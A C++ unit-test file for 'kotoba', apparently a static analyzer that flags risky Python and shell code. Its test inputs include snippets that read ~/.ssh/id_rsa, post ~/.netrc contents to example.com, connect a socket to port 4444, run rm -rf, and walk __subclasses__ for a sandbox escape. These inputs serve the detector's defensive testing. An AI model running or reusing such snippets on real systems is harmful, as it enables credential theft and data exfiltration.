// The analyzer through its public faces: every Python and engine rule with a positive and a
// negative case side by side, the sink table, the verdict's JSON shape, the C ABI, and every
// limit of Options.
#include <algorithm>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "analyzer/python_sinks.h"
#include "gtest/gtest.h"
#include "kotoba/classifier.h"
#include "kotoba/kotoba.h"
#include "kotoba/rules.h"
#include "nlohmann/json.hpp"

namespace kotoba {
namespace {

using ::nlohmann::ordered_json;

Verdict Classify(std::string_view code, Language language = Language::kPython,
                 const Options& options = {}) {
  absl::StatusOr<Classifier> c = Classifier::Create(options);
  EXPECT_TRUE(c.ok()) << c.status();
  if (!c.ok()) return {};
  return c->Classify(code, language);
}

// "PY-SPAWN-001 shell-spawn 2:1 o.system -> os.system (...)" per finding, for failure messages.
std::string Describe(const Verdict& v) {
  std::string out = "labels [" + v.labels.ToString() + "]";
  for (const Finding& f : v.findings) {
    out += "\n  " + f.rule + " " + std::string(LabelName(f.label)) + " " +
           std::to_string(f.line) + ":" + std::to_string(f.column) + " " + f.evidence;
  }
  return out;
}

bool HasRule(const Verdict& v, std::string_view rule) {
  return std::any_of(v.findings.begin(), v.findings.end(),
                     [&](const Finding& f) { return f.rule == rule; });
}

// A parse that cannot finish within 1 us: ~600 KB of statements.
const std::string& SlowToParse() {
  static const std::string* text = [] {
    auto* s = new std::string;
    for (int i = 0; i < 20000; ++i) *s += "x = [1, 2, 3, (4, 5), {6: 7}]\n";
    return s;
  }();
  return *text;
}

// ---------------------------------------------------------------------------------------------
// One row per rule: a snippet that earns it and a near-miss that must not.
struct RuleCase {
  std::string_view rule;
  std::string positive;
  std::string negative;
  Language language = Language::kPython;
  Options options = {};  // both snippets run under these
  // Set when no source text can reach the rule; the positive half is skipped with this reason.
  std::string_view unreachable = {};
};

const std::vector<RuleCase>& RuleCases() {
  static const auto* cases = new std::vector<RuleCase>{
      {.rule = "PY-DESTROY-001",
       .positive = "import shutil as s\ns.rmtree('build')\n",
       .negative = "items = [1, 2]\nitems.remove(1)\n"},
      {.rule = "PY-EVAL-001",
       .positive = "from builtins import eval as e\ne(input())\n",
       .negative = "model.eval()\nimport ast\nast.literal_eval('[1]')\n"},
      {.rule = "PY-GADGET-001",
       .positive = "().__class__.__base__.__subclasses__()\n",
       .negative = "print(type(1).__name__, type(1).__mro__)\n"},
      {.rule = "PY-NET-001",
       .positive = "import requests\nrequests.post('https://example.com/hook', json={})\n",
       .negative = "import requests\nrequests.get('https://example.com/data.json')\n"},
      {.rule = "PY-NET-002",
       .positive = "import requests\nrequests.get('https://example.com/?q=' + input())\n",
       .negative = "import requests\nrequests.get('https://example.com/' + 'v1/items')\n"},
      {.rule = "PY-NET-003",
       .positive = "import smtplib\nsmtplib.SMTP('mail.example.com')\n",
       .negative = "import email.message\nemail.message.EmailMessage()\n"},
      {.rule = "PY-OPAQUE-001",
       .positive = "import os\ngetattr(os, input())('id')\n",
       .negative = "import math\ngetattr(math, input())(2)\n"},
      {.rule = "PY-SECRET-001",
       .positive = "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
       .negative = "open('.env.example').read()\nprint('~/.ssh/id_rsa')\n"},
      {.rule = "PY-SECRET-002",
       .positive = "from dotenv import load_dotenv\nload_dotenv()\n",
       .negative = "from dotenv import dotenv_values\ndotenv_values('.env.example')\n"},
      {.rule = "PY-SOCKET-001",
       .positive = "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n",
       .negative = "import sqlite3\nsqlite3.connect('app.db')\n"},
      {.rule = "PY-SPAWN-001",
       .positive = "from subprocess import run as r\nr(['ls'])\n",
       .negative = "import subprocess\ndb.execute('select 1')\n"},
      {.rule = "PY-WRITE-001",
       .positive = "from pathlib import Path\nPath('out.txt').write_text('x')\n",
       .negative = "import io\nio.StringIO().write('x')\n"},
      {.rule = "PY-WRITE-002",
       .positive = "m = 'a'\nopen('.bashrc', m).write('x')\n",
       .negative = "open('data.csv', 'rb').read()\n"},
      {.rule = "KT-INPUT-001", .positive = "print('\xff')\n", .negative = "print('\xc3\xa9')\n"},
      {.rule = "KT-INPUT-002",
       .positive = std::string("print(1)\0import os\n", 19),
       .negative = "print('\\0')\n"},
      {.rule = "KT-LIMIT-001",
       .positive = "print('this line is longer than the limit')\n",
       .negative = "print(1)\n",
       .options = {.max_input_bytes = 16}},
      {.rule = "KT-LIMIT-002",
       .positive = SlowToParse(),
       .negative = "print(1)\n",
       .options = {.parse_timeout = std::chrono::microseconds(1)}},
      {.rule = "KT-LIMIT-003",
       .positive = "x = ((((((((((((((((1))))))))))))))))\n",
       .negative = "x = ((1))\n",
       .options = {.max_syntax_depth = 8}},
      {.rule = "KT-LIMIT-004",
       .positive = "open('a' * 10**12).read()\n",
       .negative = "print('a' * 10**12)\n"},
      {.rule = "KT-LIMIT-005",
       .positive = "exec(\"exec('exec(\\\"print(1)\\\")')\")\n",
       .negative = "exec(\"print(1)\")\n",
       .options = {.max_nesting_depth = 1}},
      {.rule = "KT-PARSE-001", .positive = "x = (1,\n", .negative = "x = (1,)\n"},
      {.rule = "KT-PARSE-002",
       .positive = {},
       .negative = "match x:\n    case [1, *rest]:\n        pass\ntype T = int\n",
       .unreachable = "fires only for a node kind the grammar has and ts/python_kinds.inc lacks "
                      "(a grammar upgrade); tests/ts checks the list against the grammar"},
  };
  return *cases;
}

void PrintTo(const RuleCase& c, std::ostream* os) { *os << c.rule; }

class RuleTest : public ::testing::TestWithParam<RuleCase> {};

TEST_P(RuleTest, PositiveCaseEarnsTheRule) {
  const RuleCase& c = GetParam();
  if (!c.unreachable.empty()) GTEST_SKIP() << c.rule << " has no source-level trigger: " << c.unreachable;
  Verdict v = Classify(c.positive, c.language, c.options);
  ASSERT_TRUE(HasRule(v, c.rule)) << c.positive.substr(0, 200) << Describe(v);
  const RuleInfo* info = FindRule(c.rule);
  ASSERT_NE(info, nullptr);
  EXPECT_TRUE(v.labels.Has(info->label)) << Describe(v);
  EXPECT_EQ(v.decision, Decision::kAsk);
}

TEST_P(RuleTest, NegativeCaseDoesNot) {
  const RuleCase& c = GetParam();
  Verdict v = Classify(c.negative, c.language, c.options);
  EXPECT_FALSE(HasRule(v, c.rule)) << c.negative << Describe(v);
}

INSTANTIATE_TEST_SUITE_P(EveryRule, RuleTest, ::testing::ValuesIn(RuleCases()),
                         [](const ::testing::TestParamInfo<RuleCase>& info) {
                           std::string name(info.param.rule);
                           std::replace(name.begin(), name.end(), '-', '_');
                           return name;
                         });

// A rule added to the registry without a row above fails here, so none slips by untested.
TEST(RuleCoverageTest, EveryPythonAndEngineRuleHasACase) {
  std::set<std::string_view> covered;
  for (const RuleCase& c : RuleCases()) covered.insert(c.rule);
  for (const RuleInfo& r : AllRules()) {
    if (!r.id.starts_with("PY-") && !r.id.starts_with("KT-")) continue;
    EXPECT_TRUE(covered.contains(r.id)) << r.id << " has no positive/negative case in RuleCases()";
  }
  for (std::string_view id : covered) {
    EXPECT_NE(FindRule(id), nullptr) << id << " is in RuleCases() but not in the registry";
  }
}

TEST(RuleRegistryTest, IdsAreSortedUniqueAndDocumented) {
  std::span<const RuleInfo> rules = AllRules();
  for (size_t i = 0; i < rules.size(); ++i) {
    EXPECT_FALSE(rules[i].title.empty()) << rules[i].id;
    EXPECT_FALSE(rules[i].doc.empty()) << rules[i].id;
    if (i > 0) {
      EXPECT_LT(rules[i - 1].id, rules[i].id);
    }
    EXPECT_EQ(FindRule(rules[i].id), &rules[i]);
  }
  EXPECT_EQ(FindRule("PY-NOPE-999"), nullptr);
}

// ---------------------------------------------------------------------------------------------
// The sink table.

using analyzer::AllSinks;
using analyzer::Condition;
using analyzer::FindSinks;
using analyzer::IsSensitiveName;
using analyzer::Sink;

// Rows whose label differs from their rule's primary label, on purpose.
bool IsSecondLabelOfTheRule(const Sink& s) {
  // The __subclasses__ walk reaches a shell or eval: undecidable which, so both (DESIGN.md).
  return s.rule == "PY-GADGET-001" && s.label == Label::kDynamicEval;
}

TEST(SinkTableTest, EveryRowNamesARuleThatExistsWithItsLabel) {
  for (const Sink& s : AllSinks()) {
    const RuleInfo* rule = FindRule(s.rule);
    ASSERT_NE(rule, nullptr) << s.name << " names missing rule " << s.rule;
    EXPECT_TRUE(s.rule.starts_with("PY-")) << s.name;
    if (!IsSecondLabelOfTheRule(s)) {
      EXPECT_EQ(rule->label, s.label) << s.name << " " << s.rule;
    }
    EXPECT_FALSE(s.message.empty()) << s.name;
  }
}

TEST(SinkTableTest, EveryRowIsFoundByItsName) {
  for (const Sink& s : AllSinks()) {
    std::string name(s.name);
    if (name.ends_with("*")) name.back() = 'x';  // any suffix
    if (name.starts_with("?.")) continue;        // receiver-less rows are matched by the rules
    std::vector<const Sink*> found = FindSinks(name);
    EXPECT_NE(std::find(found.begin(), found.end(), &s), found.end()) << s.name;
  }
}

TEST(SinkTableTest, ConditionsThatReadAnArgumentSayWhich) {
  for (const Sink& s : AllSinks()) {
    if (s.condition == Condition::kAlways) {
      EXPECT_EQ(s.arg, -1) << s.name;
      EXPECT_TRUE(s.keyword.empty()) << s.name;
    } else {
      EXPECT_TRUE(s.arg >= 0 || !s.keyword.empty()) << s.name;
    }
  }
}

TEST(SinkTableTest, NoRowIsListedTwice) {
  std::set<std::tuple<std::string_view, Label, std::string_view>> seen;
  for (const Sink& s : AllSinks()) {
    EXPECT_TRUE(seen.emplace(s.name, s.label, s.rule).second) << s.name << " " << s.rule;
  }
}

TEST(SinkTableTest, FindSinksReturnsExactRowsThenWildcards) {
  std::vector<const Sink*> spawn = FindSinks("os.system");
  ASSERT_EQ(spawn.size(), 1u);
  EXPECT_EQ(spawn[0]->rule, "PY-SPAWN-001");
  EXPECT_EQ(spawn[0]->condition, Condition::kShellString);
  std::vector<const Sink*> exec = FindSinks("os.execvp");
  ASSERT_FALSE(exec.empty());
  EXPECT_EQ(exec[0]->name, "os.execv*");
  EXPECT_EQ(FindSinks("ctypes.CDLL").size(), 1u);
  std::vector<const Sink*> gadget = FindSinks("builtins.object.__subclasses__");
  EXPECT_EQ(gadget.size(), 2u);  // shell-spawn and dynamic-eval
  EXPECT_TRUE(FindSinks("os.getcwd").empty());
  EXPECT_TRUE(FindSinks("ctypes").empty());  // the module itself is not a call
  EXPECT_TRUE(FindSinks("os.systemx").empty());
}

TEST(SinkTableTest, SensitiveNamesAreSinksAndTheirModules) {
  for (std::string_view name : {"os", "os.system", "subprocess", "pathlib", "pathlib.Path",
                                "builtins", "sys", "sys.modules", "importlib", "ctypes",
                                "ctypes.CDLL", "requests.Session"}) {
    EXPECT_TRUE(IsSensitiveName(name)) << name;
  }
  for (std::string_view name : {"math", "json", "osx", "os.getcwd", "collections", ""}) {
    EXPECT_FALSE(IsSensitiveName(name)) << name;
  }
}

TEST(SinkTableTest, EveryModulePrefixOfARowIsSensitive) {
  for (const Sink& s : AllSinks()) {
    if (s.name.starts_with("?.")) continue;
    for (size_t dot = s.name.find('.'); dot != std::string_view::npos;
         dot = s.name.find('.', dot + 1)) {
      EXPECT_TRUE(IsSensitiveName(s.name.substr(0, dot))) << s.name;
    }
  }
}

// ---------------------------------------------------------------------------------------------
// The verdict and its JSON (DESIGN.md section 3).

constexpr std::string_view kManyLabels =
    "import requests, os, socket\n"
    "requests.post('https://example.com', data=open('~/.netrc').read())\n"
    "open('out.txt', 'w')\n"
    "socket.socket()\n"
    "os.system('rm -rf build')\n"
    "eval(input())\n";

TEST(VerdictTest, LabelsComeInCanonicalOrder) {
  Verdict v = Classify(kManyLabels);
  std::vector<Label> labels = v.labels.ToVector();
  ASSERT_GE(labels.size(), 5u) << Describe(v);
  EXPECT_TRUE(std::is_sorted(labels.begin(), labels.end()));
  EXPECT_EQ(v.labels.ToString(),
            "fs-destroy,shell-spawn,raw-socket,dynamic-eval,fs-write,data-out,secret-read")
      << Describe(v);
}

TEST(VerdictTest, FindingsAreSortedByPosition) {
  Verdict v = Classify(kManyLabels);
  ASSERT_GE(v.findings.size(), 5u);
  EXPECT_TRUE(std::is_sorted(v.findings.begin(), v.findings.end(),
                             [](const Finding& a, const Finding& b) {
                               return std::tie(a.line, a.column) < std::tie(b.line, b.column);
                             }))
      << Describe(v);
  for (const Finding& f : v.findings) {
    EXPECT_GE(f.line, 1);
    EXPECT_GE(f.column, 1);
    EXPECT_GE(std::tie(f.end_line, f.end_column), std::tie(f.line, f.column)) << f.rule;
    EXPECT_FALSE(f.message.empty()) << f.rule;
    EXPECT_NE(FindRule(f.rule), nullptr) << f.rule;
  }
}

TEST(VerdictTest, NoLabelMeansRun) {
  Verdict v = Classify("print(1)\n");
  EXPECT_EQ(v.decision, Decision::kRun);
  EXPECT_TRUE(v.labels.empty());
  EXPECT_TRUE(v.findings.empty());
  EXPECT_EQ(v.language, Language::kPython);
}

std::vector<std::string> Keys(const ordered_json& j) {
  std::vector<std::string> keys;
  for (auto& [k, _] : j.items()) keys.push_back(k);
  return keys;
}

TEST(VerdictJsonTest, KeysFollowDesignOrder) {
  ordered_json j = ordered_json::parse(ToJson(Classify("import shutil\nshutil.rmtree('x')\n")));
  EXPECT_EQ(Keys(j), (std::vector<std::string>{"decision", "labels", "read_only", "findings",
                                               "language", "elapsed_us"}));
  ASSERT_FALSE(j["findings"].empty());
  EXPECT_EQ(Keys(j["findings"][0]),
            (std::vector<std::string>{"label", "rule", "line", "column", "end_line", "end_column",
                                      "evidence", "message"}));
}

// A shell string inside Python adds the commands it runs, after every design key.
TEST(VerdictJsonTest, ShellStringInPythonAppendsCommands) {
  ordered_json j = ordered_json::parse(ToJson(Classify("import os\nos.system('ls -la')\n")));
  EXPECT_EQ(Keys(j), (std::vector<std::string>{"decision", "labels", "read_only", "findings",
                                               "language", "elapsed_us", "commands"}));
  ASSERT_EQ(j["commands"].size(), 1u);
  EXPECT_EQ(j["commands"][0]["argv"], ordered_json::array({"ls", "-la"}));
}

TEST(VerdictJsonTest, ValuesMatchTheVerdict) {
  Verdict v = Classify("import os as o\no.system('id')\n");
  ordered_json j = ordered_json::parse(ToJson(v));
  EXPECT_EQ(j["decision"], "ask");
  EXPECT_EQ(j["labels"], ordered_json::array({"shell-spawn"}));
  EXPECT_EQ(j["read_only"], false);
  EXPECT_EQ(j["language"], "python");
  EXPECT_EQ(j["elapsed_us"], v.elapsed_us);
  const ordered_json& f = j["findings"][0];
  EXPECT_EQ(f["label"], "shell-spawn");
  EXPECT_EQ(f["rule"], "PY-SPAWN-001");
  EXPECT_EQ(f["line"], 2);
  EXPECT_EQ(f["column"], 1);
  EXPECT_EQ(f["end_line"], 2);
  EXPECT_EQ(f["evidence"], v.findings[0].evidence);
  EXPECT_NE(f["evidence"].get<std::string>().find("os.system"), std::string::npos);
}

TEST(VerdictJsonTest, LabelsAreInCanonicalOrder) {
  ordered_json j = ordered_json::parse(ToJson(Classify(kManyLabels)));
  std::vector<std::string> labels = j["labels"].get<std::vector<std::string>>();
  std::vector<std::string> canonical;
  for (Label l : kAllLabels) {
    if (std::find(labels.begin(), labels.end(), LabelName(l)) != labels.end()) {
      canonical.emplace_back(LabelName(l));
    }
  }
  EXPECT_EQ(labels, canonical);
}

TEST(VerdictJsonTest, RunVerdictHasEmptyArrays) {
  ordered_json j = ordered_json::parse(ToJson(Classify("print(1)\n")));
  EXPECT_EQ(j["decision"], "run");
  EXPECT_EQ(j["labels"], ordered_json::array());
  EXPECT_EQ(j["findings"], ordered_json::array());
  EXPECT_FALSE(j.contains("commands"));  // only shell input (or shell strings) list commands
}

TEST(VerdictJsonTest, ShellVerdictListsCommands) {
  ordered_json j = ordered_json::parse(ToJson(Classify("ls -la | wc -l", Language::kShell)));
  EXPECT_EQ(j["language"], "shell");
  EXPECT_EQ(j["read_only"], true);
  ASSERT_TRUE(j.contains("commands"));
  EXPECT_EQ(j["commands"].size(), 2u);
}

TEST(VerdictJsonTest, InvalidUtf8InEvidenceStillDumps) {
  Verdict v;
  Finding f;
  f.evidence = "bad \xff byte";
  v.findings.push_back(f);
  EXPECT_NO_THROW(ordered_json::parse(ToJson(v)));
}

// ---------------------------------------------------------------------------------------------
// The C ABI (include/kotoba/kotoba.h).

class CapiTest : public ::testing::Test {
 protected:
  void SetUp() override { ASSERT_EQ(kotoba_classifier_new(nullptr, &classifier_), KOTOBA_OK); }
  void TearDown() override { kotoba_classifier_free(classifier_); }
  kotoba_classifier* classifier_ = nullptr;
};

// JSON without the timing, which differs between two runs.
ordered_json Untimed(std::string_view json) {
  ordered_json j = ordered_json::parse(json);
  j.erase("elapsed_us");
  return j;
}

TEST_F(CapiTest, VerdictEqualsTheCppVerdict) {
  for (std::string_view code : {std::string_view("import os as o\no.system('id')\n"),
                                std::string_view("print(1)\n"), kManyLabels}) {
    kotoba_verdict* v = nullptr;
    ASSERT_EQ(kotoba_classify(classifier_, code.data(), code.size(), KOTOBA_LANG_PYTHON, &v),
              KOTOBA_OK);
    Verdict cpp = Classify(code);
    EXPECT_EQ(kotoba_verdict_labels(v), cpp.labels.bits()) << code;
    EXPECT_EQ(kotoba_verdict_ask(v), cpp.decision == Decision::kAsk ? 1 : 0);
    EXPECT_EQ(Untimed(kotoba_verdict_json(v)), Untimed(ToJson(cpp))) << code;
    kotoba_verdict_free(v);
  }
}

TEST_F(CapiTest, LabelBitsFollowTheCanonicalOrder) {
  EXPECT_EQ(KOTOBA_LABEL_FS_DESTROY, LabelSet{Label::kFsDestroy}.bits());
  EXPECT_EQ(KOTOBA_LABEL_SHELL_SPAWN, LabelSet{Label::kShellSpawn}.bits());
  EXPECT_EQ(KOTOBA_LABEL_RAW_SOCKET, LabelSet{Label::kRawSocket}.bits());
  EXPECT_EQ(KOTOBA_LABEL_DYNAMIC_EVAL, LabelSet{Label::kDynamicEval}.bits());
  EXPECT_EQ(KOTOBA_LABEL_FS_WRITE, LabelSet{Label::kFsWrite}.bits());
  EXPECT_EQ(KOTOBA_LABEL_DATA_OUT, LabelSet{Label::kDataOut}.bits());
  EXPECT_EQ(KOTOBA_LABEL_SECRET_READ, LabelSet{Label::kSecretRead}.bits());
  EXPECT_EQ(KOTOBA_LABEL_OPAQUE, LabelSet{Label::kOpaque}.bits());
}

TEST_F(CapiTest, ShellVerdictIsReadOnly) {
  constexpr std::string_view kCmd = "git status";
  kotoba_verdict* v = nullptr;
  ASSERT_EQ(kotoba_classify(classifier_, kCmd.data(), kCmd.size(), KOTOBA_LANG_SHELL, &v),
            KOTOBA_OK);
  EXPECT_EQ(kotoba_verdict_read_only(v), 1);
  EXPECT_EQ(kotoba_verdict_labels(v), 0u);
  kotoba_verdict_free(v);
}

TEST_F(CapiTest, EmptyInputIsFine) {
  kotoba_verdict* v = nullptr;
  ASSERT_EQ(kotoba_classify(classifier_, nullptr, 0, KOTOBA_LANG_PYTHON, &v), KOTOBA_OK);
  EXPECT_EQ(kotoba_verdict_labels(v), 0u);
  EXPECT_EQ(kotoba_verdict_ask(v), 0);
  kotoba_verdict_free(v);
  ASSERT_EQ(kotoba_classify(classifier_, "", 0, KOTOBA_LANG_SHELL, &v), KOTOBA_OK);
  EXPECT_EQ(kotoba_verdict_labels(v), 0u);
  kotoba_verdict_free(v);
}

TEST_F(CapiTest, InputNeedNotBeNulTerminated) {
  const char text[] = {'e', 'v', 'a', 'l', '(', 'x', ')', '!'};
  kotoba_verdict* v = nullptr;
  ASSERT_EQ(kotoba_classify(classifier_, text, 7, KOTOBA_LANG_PYTHON, &v), KOTOBA_OK);
  EXPECT_EQ(kotoba_verdict_labels(v), static_cast<uint32_t>(KOTOBA_LABEL_DYNAMIC_EVAL));
  kotoba_verdict_free(v);
}

TEST_F(CapiTest, NullArgumentsAreRejected) {
  kotoba_verdict* v = nullptr;
  EXPECT_EQ(kotoba_classifier_new(nullptr, nullptr), KOTOBA_INVALID_ARGUMENT);
  EXPECT_EQ(kotoba_classify(nullptr, "x", 1, KOTOBA_LANG_PYTHON, &v), KOTOBA_INVALID_ARGUMENT);
  EXPECT_EQ(kotoba_classify(classifier_, "x", 1, KOTOBA_LANG_PYTHON, nullptr),
            KOTOBA_INVALID_ARGUMENT);
  EXPECT_EQ(kotoba_classify(classifier_, nullptr, 1, KOTOBA_LANG_PYTHON, &v),
            KOTOBA_INVALID_ARGUMENT);
  EXPECT_EQ(kotoba_classify(classifier_, "x", 1, static_cast<kotoba_language>(7), &v),
            KOTOBA_INVALID_ARGUMENT);
  EXPECT_EQ(v, nullptr);
}

TEST_F(CapiTest, NullVerdictAccessorsAreSafe) {
  EXPECT_EQ(kotoba_verdict_labels(nullptr), 0u);
  EXPECT_EQ(kotoba_verdict_ask(nullptr), 0);
  EXPECT_EQ(kotoba_verdict_read_only(nullptr), 0);
  EXPECT_STREQ(kotoba_verdict_json(nullptr), "");
  kotoba_verdict_free(nullptr);
  kotoba_classifier_free(nullptr);
}

TEST(CapiOptionsTest, InitFillsTheDefaults) {
  kotoba_options o;
  kotoba_options_init(&o);
  Options d;
  EXPECT_EQ(o.struct_size, sizeof(kotoba_options));
  EXPECT_EQ(o.max_input_bytes, d.max_input_bytes);
  EXPECT_EQ(o.parse_timeout_us, d.parse_timeout.count());
  EXPECT_EQ(o.max_syntax_depth, d.max_syntax_depth);
  EXPECT_EQ(o.max_fold_steps, d.max_fold_steps);
  EXPECT_EQ(o.max_value_bytes, d.max_value_bytes);
  EXPECT_EQ(o.max_total_fold_bytes, d.max_total_fold_bytes);
  EXPECT_EQ(o.max_nesting_depth, d.max_nesting_depth);
  EXPECT_EQ(o.max_brace_words, d.max_brace_words);
  EXPECT_EQ(o.max_wrapper_depth, d.max_wrapper_depth);
}

TEST(CapiOptionsTest, OptionsReachTheClassifier) {
  kotoba_options o;
  kotoba_options_init(&o);
  o.max_input_bytes = 4;
  kotoba_classifier* c = nullptr;
  ASSERT_EQ(kotoba_classifier_new(&o, &c), KOTOBA_OK);
  kotoba_verdict* v = nullptr;
  ASSERT_EQ(kotoba_classify(c, "print(1)", 8, KOTOBA_LANG_PYTHON, &v), KOTOBA_OK);
  EXPECT_EQ(kotoba_verdict_labels(v), static_cast<uint32_t>(KOTOBA_LABEL_OPAQUE));
  EXPECT_NE(std::string_view(kotoba_verdict_json(v)).find("KT-LIMIT-001"), std::string_view::npos);
  kotoba_verdict_free(v);
  kotoba_classifier_free(c);
}

TEST(CapiOptionsTest, BadOptionsAreRejected) {
  kotoba_classifier* c = nullptr;
  kotoba_options o;
  kotoba_options_init(&o);
  o.struct_size = 1;  // a caller built against another version of the struct
  EXPECT_EQ(kotoba_classifier_new(&o, &c), KOTOBA_INVALID_ARGUMENT);
  kotoba_options_init(&o);
  o.max_fold_steps = 0;
  EXPECT_EQ(kotoba_classifier_new(&o, &c), KOTOBA_INVALID_ARGUMENT);
  EXPECT_EQ(c, nullptr);
}

TEST(CapiTextTest, StatusStringsAndVersion) {
  EXPECT_STREQ(kotoba_status_string(KOTOBA_OK), "ok");
  EXPECT_STREQ(kotoba_status_string(KOTOBA_INVALID_ARGUMENT), "invalid argument");
  EXPECT_TRUE(std::string_view(kotoba_version()).starts_with("kotoba-classify "));
}

// ---------------------------------------------------------------------------------------------
// Every limit of Options: lowered, it is hit and named; at its default, the same input is fine.

struct LimitCase {
  std::string_view name;
  Options lowered;
  std::string code;
  Language language = Language::kPython;
  std::string_view rule;
  std::string_view evidence = {};  // a substring of the limit finding's evidence
  // Set while the engine misses the row (see tests/aliasing for the convention).
  std::string_view known_miss = {};
};

std::string Repeat(std::string_view s, int n) {
  std::string out;
  for (int i = 0; i < n; ++i) out += s;
  return out;
}

const std::vector<LimitCase>& LimitCases() {
  static const auto* cases = new std::vector<LimitCase>{
      {.name = "MaxInputBytes",
       .lowered = {.max_input_bytes = 64},
       .code = "x = '" + std::string(100, 'a') + "'\nimport os\nos.system('id')\n",
       .rule = "KT-LIMIT-001",
       .evidence = "max_input_bytes"},
      {.name = "MaxInputBytesShell",
       .lowered = {.max_input_bytes = 8},
       .code = "echo hello world",
       .language = Language::kShell,
       .rule = "KT-LIMIT-001"},
      {.name = "ParseTimeout",
       .lowered = {.parse_timeout = std::chrono::microseconds(1)},
       .code = SlowToParse(),
       .rule = "KT-LIMIT-002"},
      {.name = "MaxSyntaxDepth",
       .lowered = {.max_syntax_depth = 20},
       .code = "x = " + Repeat("[", 40) + "1" + Repeat("]", 40) + "\n",
       .rule = "KT-LIMIT-003",
       .evidence = "max_syntax_depth"},
      {.name = "MaxFoldSteps",
       .lowered = {.max_fold_steps = 50},
       .code = "import os\nn = " + Repeat("'a' + ", 60) + "'system'\ngetattr(os, n)('id')\n",
       .rule = "KT-LIMIT-004",
       .evidence = "max_fold_steps"},
      {.name = "MaxValueBytes",
       .lowered = {.max_value_bytes = 64},
       .code = "open('x' * 100).read()\n",
       .rule = "KT-LIMIT-004",
       .evidence = "max_value_bytes"},
      {.name = "MaxValueBytesInACalledGetattrName",
       .lowered = {.max_value_bytes = 64},
       .code = "import os\ngetattr(os, 'x' * 100)('id')\n",
       .rule = "KT-LIMIT-004",
       .evidence = "max_value_bytes"},
      {.name = "MaxValueBytesInAGetattrName",
       .lowered = {.max_value_bytes = 64},
       .code = "import os\nf = getattr(os, 'x' * 100)\n",
       .rule = "KT-LIMIT-004",
       .evidence = "max_value_bytes"},
      {.name = "MaxTotalFoldBytes",
       .lowered = {.max_total_fold_bytes = 256},
       .code = "a = 'x' * 200\nb = 'y' * 200\nexec(a + b)\n",
       .rule = "KT-LIMIT-004",
       .evidence = "max_total_fold_bytes"},
      {.name = "MaxNestingDepth",
       .lowered = {.max_nesting_depth = 2},
       .code = "exec(\"exec('exec(\\\"exec(1)\\\")')\")\n",
       .rule = "KT-LIMIT-005"},
      {.name = "MaxBraceWords",
       .lowered = {.max_brace_words = 4},
       .code = "echo {a,b}{c,d}{e,f}",
       .language = Language::kShell,
       .rule = "SH-LIMIT-001"},
      {.name = "MaxWrapperDepth",
       .lowered = {.max_wrapper_depth = 2},
       .code = "nice nice nice nice ls",
       .language = Language::kShell,
       .rule = "SH-LIMIT-004"},
  };
  return *cases;
}

void PrintTo(const LimitCase& c, std::ostream* os) { *os << c.name; }

class LimitTest : public ::testing::TestWithParam<LimitCase> {};

TEST_P(LimitTest, LoweredLimitIsHitAndNamed) {
  const LimitCase& c = GetParam();
  Verdict v = Classify(c.code, c.language, c.lowered);
  auto f = std::find_if(v.findings.begin(), v.findings.end(),
                        [&](const Finding& f) { return f.rule == c.rule; });
  if (!c.known_miss.empty()) {
    bool hit = f != v.findings.end() && f->evidence.find(c.evidence) != std::string::npos;
    if (hit) FAIL() << "known miss now passes: remove known_miss from this row\n" << Describe(v);
    GTEST_SKIP() << "known miss: " << c.known_miss << "\n" << Describe(v);
  }
  ASSERT_NE(f, v.findings.end()) << Describe(v);
  EXPECT_EQ(f->label, Label::kOpaque);
  EXPECT_TRUE(v.labels.Has(Label::kOpaque));
  if (!c.evidence.empty()) {
    EXPECT_NE(f->evidence.find(c.evidence), std::string::npos) << f->evidence;
  }
}

TEST_P(LimitTest, DefaultLimitIsNotHit) {
  const LimitCase& c = GetParam();
  Verdict v = Classify(c.code, c.language, Options{});
  EXPECT_FALSE(HasRule(v, c.rule)) << Describe(v);
}

INSTANTIATE_TEST_SUITE_P(EveryOption, LimitTest, ::testing::ValuesIn(LimitCases()),
                         [](const auto& info) { return std::string(info.param.name); });

// Exceeding a limit on one expression does not stop the analysis elsewhere.
TEST(LimitTest, AnalysisGoesOnAfterABudgetFailure) {
  Verdict v = Classify("import os\ngetattr(os, 'a' * 10**12)\nos.remove('x')\n");
  EXPECT_EQ(v.labels.ToString(), "fs-destroy,opaque") << Describe(v);
}

TEST(LimitTest, OversizedInputIsNotTruncated) {
  // The sink sits past the limit: truncating would miss it; the verdict must still ask.
  std::string code = "print(1)\n" + std::string(100, '#') + "\nimport os\nos.system('id')\n";
  Verdict v = Classify(code, Language::kPython, {.max_input_bytes = 32});
  EXPECT_EQ(v.decision, Decision::kAsk);
  EXPECT_EQ(v.labels.ToString(), "opaque");
}

TEST(OptionsTest, OutOfRangeOptionsAreRejected) {
  EXPECT_FALSE(Classifier::Create({.max_input_bytes = 0}).ok());
  EXPECT_FALSE(Classifier::Create({.parse_timeout = std::chrono::microseconds(0)}).ok());
  EXPECT_FALSE(Classifier::Create({.max_syntax_depth = 0}).ok());
  EXPECT_FALSE(Classifier::Create({.max_fold_steps = 0}).ok());
  EXPECT_FALSE(Classifier::Create({.max_nesting_depth = -1}).ok());
  EXPECT_FALSE(Classifier::Create({.max_brace_words = 0}).ok());
  EXPECT_FALSE(Classifier::Create({.max_wrapper_depth = 0}).ok());
  EXPECT_TRUE(Classifier::Create({.max_nesting_depth = 0}).ok());
}

}  // namespace
}  // namespace kotoba
